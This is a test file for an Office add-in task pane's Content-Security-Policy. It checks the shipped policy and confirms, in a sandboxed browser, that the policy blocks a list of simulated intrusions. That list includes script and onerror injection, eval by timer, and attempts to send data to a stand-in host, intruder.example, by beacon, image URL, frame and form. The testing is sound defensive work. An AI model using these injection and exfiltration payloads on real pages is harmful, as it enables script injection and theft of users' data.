/** The pane's Content-Security-Policy: as the site is shipped, and as a browser holds it against what an intruder would try. */

import { readFileSync } from "node:fs";
import { join } from "node:path";
import { JSDOM } from "jsdom";
import { built } from "../support/build";
import { executablePath, startSandbox, type Desk, type Sandbox } from "../support/sandbox";

const inBrowser = executablePath === undefined ? describe.skip : describe;

const OFFICE = "https://appsforoffice.microsoft.com";

const page = (build: "web" | "sandbox") =>
  new JSDOM(readFileSync(join(built(build), "taskpane.html"), "utf8")).window.document;

const POLICY = 'meta[http-equiv="Content-Security-Policy"]';

function policyOf(document: Document): Record<string, string[]> {
  const parts = document.querySelector<HTMLMetaElement>(POLICY)!.content.split(";");
  return Object.fromEntries(
    parts.map((part) => {
      const [name, ...sources] = part.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

describe("the page as it is shipped", () => {
  let document: Document;
  beforeAll(() => {
    document = page("web");
  }, 300_000);

  test("allows scripts of its own and of Microsoft's Office.js, and nothing to be sent anywhere", () => {
    expect(policyOf(document)).toEqual({
      "default-src": ["'none'"],
      "script-src": ["'self'", OFFICE],
      "style-src": ["'self'"],
      "img-src": ["'self'"],
      "connect-src": ["'none'"],
      "base-uri": ["'none'"],
      "form-action": ["'none'"],
    });
  });

  test("holds the policy before anything that it governs", () => {
    const [first] = document.querySelectorAll(`${POLICY}, script, link, style`);
    expect(first!.matches(POLICY)).toBe(true);
  });

  test("has no script, style or handler written into the page", () => {
    const scripts = [...document.querySelectorAll("script")];
    expect(scripts.length).toBeGreaterThan(1);
    expect(scripts.filter(({ src, text }) => src === "" || text.trim() !== "")).toEqual([]);
    const attributes = [...document.querySelectorAll("*")].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => name === "style" || name.startsWith("on"))).toEqual([]);
    expect(document.querySelectorAll("style")).toHaveLength(0);
  });

  test("loads from elsewhere nothing but Office.js", () => {
    const addresses = [...document.querySelectorAll("[src], [href]")].map(
      (element) => element.getAttribute("src") ?? element.getAttribute("href")!,
    );
    expect(addresses.filter((address) => /^(\w+:|\/\/)/.test(address))).toEqual([`${OFFICE}/lib/1/hosted/office.js`]);
  });
});

/** What an intruder's text would try in the pane, each with the directive that must refuse it. */
const ATTEMPTS: Readonly<Record<string, readonly [directive: string, attempt: () => void]>> = {
  "a script in the page": [
    "script-src",
    () => {
      const script = document.createElement("script");
      script.textContent = "window.intruded = true";
      document.body.append(script);
    },
  ],
  "a handler in markup": [
    "script-src",
    () => {
      const holder = document.createElement("div");
      holder.innerHTML = '<img src="assets/none.png" onerror="window.intruded = true">';
      document.body.append(holder);
    },
  ],
  "a script from elsewhere": [
    "script-src",
    () => {
      const script = document.createElement("script");
      script.src = "https://intruder.example/x.js";
      document.body.append(script);
    },
  ],
  "text made into code": [
    "script-src",
    // By a timer: what the test itself sends into the page is evaluated past the policy.
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what an intruder would write
    () => void setTimeout("window.intruded = true", 0),
  ],
  "figures sent by fetch": ["connect-src", () => void fetch("functions.json", { method: "POST" }).catch(() => 0)],
  "figures sent by a beacon": ["connect-src", () => void navigator.sendBeacon("https://intruder.example/", "1")],
  "figures in the address of a picture": [
    "img-src",
    () => {
      new Image().src = "https://intruder.example/?th=14137";
    },
  ],
  "a page in a frame": [
    "default-src",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://intruder.example/";
      document.body.append(frame);
    },
  ],
  "another base for addresses": [
    "base-uri",
    () => {
      const base = document.createElement("base");
      base.href = "https://intruder.example/";
      document.head.append(base);
    },
  ],
  "a look that hides a warning": [
    "style-src",
    () => {
      const style = document.createElement("style");
      style.textContent = ".check-item { display: none }";
      document.head.append(style);
    },
  ],
  "a form sent elsewhere": [
    "form-action",
    () => {
      const form = document.createElement("form");
      form.action = "https://intruder.example/";
      document.body.append(form);
      form.submit();
    },
  ],
};

inBrowser("the pane in a browser", () => {
  let sandbox: Sandbox;
  let desk: Desk;
  /** What would have left this machine. */
  const sent: string[] = [];

  beforeAll(async () => {
    sandbox = await startSandbox();
    desk = await sandbox.open();
    await desk.context.route(/intruder/, (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
  }, 400_000);

  afterAll(() => sandbox?.close());

  test("has the policy of the site, word for word", () => {
    expect(policyOf(page("sandbox"))).toEqual(policyOf(page("web")));
  });

  test.each(Object.entries(ATTEMPTS))("refuses %s", async (_, [directive, attempt]) => {
    const reached = sent.length;
    const said = desk.page.waitForEvent("console", {
      predicate: (message) => message.text().includes("Content Security Policy directive"),
    });
    await desk.pane.locator("body").evaluate(attempt);
    expect((await said).text()).toMatch(new RegExp(`directive\\b.* ["']${directive} `, "s"));
    expect(await desk.pane.locator("body").evaluate(() => "intruded" in window)).toBe(false);
    expect(sent.slice(reached)).toEqual([]);
  });
});
